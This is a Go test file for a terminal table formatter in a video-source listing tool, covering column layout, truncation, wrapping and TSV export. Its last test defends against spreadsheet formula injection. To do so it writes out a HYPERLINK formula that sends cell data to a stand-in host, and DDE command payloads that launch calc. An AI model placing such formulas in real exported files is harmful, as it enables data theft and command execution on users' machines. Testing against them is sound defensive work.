package term

import (
	"bytes"
	"slices"
	"strings"
	"testing"

	"xship/sources/text"
)

func TestFitColumns(t *testing.T) {
	l := List{
		Columns: []Column{{Name: "#"}, {Name: "name", Shrink: 1, Min: 10}, {Name: "site", Shrink: 2, Min: 6}, {Name: "quality"}},
		Rows:    [][]string{{"1", strings.Repeat("n", 40), strings.Repeat("s", 20), "1080p"}},
	}
	for _, c := range []struct {
		width int
		want  []int
	}{
		{200, []int{1, 40, 20, 7}},
		{74, []int{1, 40, 20, 7}},
		{70, []int{1, 36, 20, 7}},
		{44, []int{1, 10, 20, 7}},
		{40, []int{1, 10, 16, 7}},
		{30, []int{1, 10, 6, 7}},
		{26, []int{1, 6, 6, 7}},
		{22, []int{1, 4, 4, 7}},
	} {
		if got := l.layout(c.width).widths; !slices.Equal(got, c.want) {
			t.Errorf("width %d: %v, want %v", c.width, got, c.want)
		}
	}
}

func TestWriteTable_wideCharacters(t *testing.T) {
	l := List{
		Columns: []Column{{Name: "name", Shrink: 1, Min: 4}, {Name: "n", Right: true}},
		Rows:    [][]string{{"钟表匠的风筝", "7"}, {"Kite", "12"}},
		Paint:   func(_, _ int, cell string) string { return Paint(ColourGood, cell) },
	}
	var b bytes.Buffer
	if err := l.WriteTable(&b, 12, true); err != nil {
		t.Fatal(err)
	}
	got := strings.NewReplacer("\x1b[32m", "", "\x1b[0m", "").Replace(b.String())
	want := "NAME      N\n钟表匠…   7\nKite     12\n"
	if got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
}

// A column that wraps gives way first, and loses nothing.
func TestWriteTable_wraps(t *testing.T) {
	l := List{
		Columns: []Column{{Name: "name", Shrink: 1, Min: 4}, {Name: "why", Wrap: true, Min: 12}, {Name: "n", Right: true}},
		Rows:    [][]string{{"Kite by night", "the best of the list", "7"}, {"Kite", "", "12"}},
		Paint:   func(_, _ int, cell string) string { return Paint(ColourGood, cell) },
	}
	for width, want := range map[int]string{
		40: "NAME           WHY                    N\nKite by night  the best of the list   7\nKite                                 12\n",
		32: "NAME           WHY           N\nKite by night  the best of   7\n               the list\nKite                        12\n",
		25: "NAME     WHY           N\nKite b…  the best of   7\n         the list\nKite                  12\n",
		15: "NAME  WHY    N\nKit…  the    7\n      best\n      of\n      the\n      list\nKite        12\n",
	} {
		var b bytes.Buffer
		if err := l.WriteTable(&b, width, true); err != nil {
			t.Fatal(err)
		}
		if got := strings.NewReplacer("\x1b[32m", "", "\x1b[0m", "").Replace(b.String()); got != want {
			t.Errorf("in %d columns\n%s\nwant\n%s", width, got, want)
		}
	}
}

// droppable is a list like that of a scan.
func droppable() List {
	return List{
		Narrow: 40,
		Columns: []Column{
			{Name: "#", Right: true},
			{Tight: true},
			{Name: "quality", Tight: true, Shrink: 5, Min: 6},
			{Name: "lang", Drop: 4},
			{Name: "hoster", Shrink: 4, Min: 12},
			{Name: "site", Shrink: 3, Min: 6, Drop: 2},
			{Name: "name", Shrink: 1, Min: 12, Drop: 9, Beneath: true},
			{Name: "info", Shrink: 1, Min: 12, Drop: 3},
			{Name: "url", Drop: 1, Beneath: true, Whole: true},
			{Name: "why", Drop: 1, Beneath: true, Wrap: true, Min: 36},
		},
		Rows: [][]string{
			{"1", "✓", "1080p!", "de", "video-archive.example.org", "Meridian of the North", "Paper Submarines 2016", "1920x1080 1:32:10 1.4 GB", "", ""},
			{"100", "", "4K", "zh", "127.0.0.1", "远航影视", "钟表匠的风筝 2021 国语 完整版", "", "https://video.example/a/very/long/link/that/goes/on/and/on/for/more/than/a/line/of/most/terminals/film.mp4?token=none", "4K, the best of the list; it was probed and worked"},
		},
	}
}

// TestTable_narrow leaves columns out in their order, and has what must not be lost
// beneath the rows.
func TestTable_narrow(t *testing.T) {
	l := droppable()
	l.Rows = [][]string{{"1", "✓", "1080p", "de", "video-archive.example.org", "Meridian", "Paper Submarines 2016", "1920x1080 1:32:10", "", ""}}
	for width, want := range map[int]string{
		120: "#   QUALITY  LANG  HOSTER                     SITE      NAME                   INFO               URL  WHY\n" +
			"1 ✓ 1080p    de    video-archive.example.org  Meridian  Paper Submarines 2016  1920x1080 1:32:10\n",
		60: "#   QUALITY  LANG  HOSTER         NAME          INFO\n" +
			"1 ✓ 1080p    de    video-archiv…  Paper Subma…  1920x1080 1…\n",
		50: "#   QUALITY  LANG  HOSTER             NAME\n" +
			"1 ✓ 1080p    de    video-archive.ex…  Paper Subma…\n",
		40: "#   QUALITY  HOSTER         NAME\n1 ✓ 1080p    video-archiv…  Paper Subma…\n",
		39: "#   QUALITY  LANG  HOSTER\n    NAME\n1 ✓ 1080p    de    video-archive.examp…\n    Paper Submarines 2016\n",
		20: "#   QUALI…  HOSTER\n    NAME\n1 ✓ 1080p   video-a…\n    Paper Submarine…\n",
	} {
		var b bytes.Buffer
		if err := l.WriteTable(&b, width, false); err != nil {
			t.Fatal(err)
		}
		if b.String() != want {
			t.Errorf("in %d columns\n%s\nwant\n%s", width, b.String(), want)
		}
	}
}

// TestTable_fits wants no line longer than the terminal, in any width, and hoster and
// name to be read from 40 columns on.
func TestTable_fits(t *testing.T) {
	lists := map[string]List{
		"like a scan": droppable(),
		"no column that gives way": {
			Columns: []Column{{Name: "id"}, {Name: "电影"}, {Name: "link"}},
			Rows:    [][]string{{"0123456789ab", "钟表匠的风筝钟表匠的风筝", "https://h.example/a/b/c?d=e"}, {"", "", ""}},
		},
		"one column": {Columns: []Column{{Name: "影视"}}, Rows: [][]string{{"远航影视"}}},
	}
	for name, l := range lists {
		l.Paint = func(_, _ int, cell string) string { return Paint(ColourGood, cell) }
		for width := 1; width <= 500; width++ {
			table := l.Table(width, true)
			for _, lines := range append([][]string{table.Head}, table.Rows...) {
				for _, line := range lines {
					if got := CellWidth(line); got > width {
						t.Fatalf("%s: %d columns in %d: %q", name, got, width, line)
					}
				}
			}
			if name != "like a scan" || width < 40 {
				continue
			}
			fitted := l.layout(width)
			for _, column := range []int{4, 6} {
				if fitted.widths[column] < 12 {
					t.Errorf("in %d columns %s has %d", width, l.Columns[column].Name, fitted.widths[column])
				}
			}
		}
	}
}

// FuzzTable wants no panic and no line longer than the terminal.
func FuzzTable(f *testing.F) {
	f.Add("1", "影视大全 国语", "https://h.example/", 20)
	f.Add("", "\u200d", "👨\u200d👩\u200d👧", 1)
	f.Fuzz(func(t *testing.T, a, b, c string, width int) {
		width = max(min(width, 500), 1)
		l := droppable()
		for i := range l.Rows[0] {
			l.Rows[0][i] = text.Clean([]string{a, b, c}[i%3])
		}
		table := l.Table(width, false)
		for _, lines := range append([][]string{table.Head}, table.Rows...) {
			for _, line := range lines {
				if got := CellWidth(line); got > width {
					t.Fatalf("%d columns in %d: %q", got, width, line)
				}
			}
		}
	})
}

// TestSnip takes nothing apart that is joined to one character.
func TestSnip(t *testing.T) {
	for _, c := range []struct {
		s     string
		width int
		want  string
	}{
		{"影视大全", 8, "影视大全"},
		{"影视大全", 7, "影视大…"},
		{"👨\u200d👩\u200d👧影视大全", 4, "…"},
		{"a👨\u200d👩\u200d👧影视大全", 6, "a…"},
		{"abc…", 3, "ab…"},
		{"a", 0, ""},
	} {
		if got := Snip(c.s, c.width); got != c.want {
			t.Errorf("Snip(%q, %d) = %q, want %q", c.s, c.width, got, c.want)
		}
	}
}

func TestWriteTSV(t *testing.T) {
	var b bytes.Buffer
	l := List{Columns: []Column{{Name: "last error"}, {Name: "n"}}, Rows: [][]string{{"a\tb\nc\rd", "1"}}}
	if err := l.WriteTSV(&b); err != nil {
		t.Fatal(err)
	}
	if want := "last_error\tn\na b c d\t1\n"; b.String() != want {
		t.Errorf("got %q, want %q", b.String(), want)
	}
}

// TestWriteTSV_formulas has free text that a spreadsheet would take for a formula
// written as text, and ids, numbers and what is text anyway as it is.
func TestWriteTSV_formulas(t *testing.T) {
	tests := []struct{ cell, text string }{
		{`=HYPERLINK("http://h.example/?"&A1)`, `'=HYPERLINK("http://h.example/?"&A1)`},
		{"=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"},
		{"+1+cmd|'/C calc'!A0", "'+1+cmd|'/C calc'!A0"},
		{"@SUM(1)", "'@SUM(1)"},
		{"-2+3", "'-2+3"},
		{"- a film", "'- a film"},
		{"\t=1+1", " =1+1"},
		{"＝1+1", "'＝1+1"},
		{"-5", "-5"},
		{"+1.5", "+1.5"},
		{"a=b", "a=b"},
		{"'=1", "'=1"},
		{"", ""},
	}
	for _, tt := range tests {
		var b bytes.Buffer
		l := List{Columns: []Column{{Name: "text"}, {Name: "id", Exact: true}, {Name: "number", Right: true}}, Rows: [][]string{{tt.cell, tt.cell, tt.cell}}}
		if err := l.WriteTSV(&b); err != nil {
			t.Fatal(err)
		}
		same := strings.ReplaceAll(tt.cell, "\t", " ")
		if want := "text\tid\tnumber\n" + tt.text + "\t" + same + "\t" + same + "\n"; b.String() != want {
			t.Errorf("%q: got %q, want %q", tt.cell, b.String(), want)
		}
	}
}
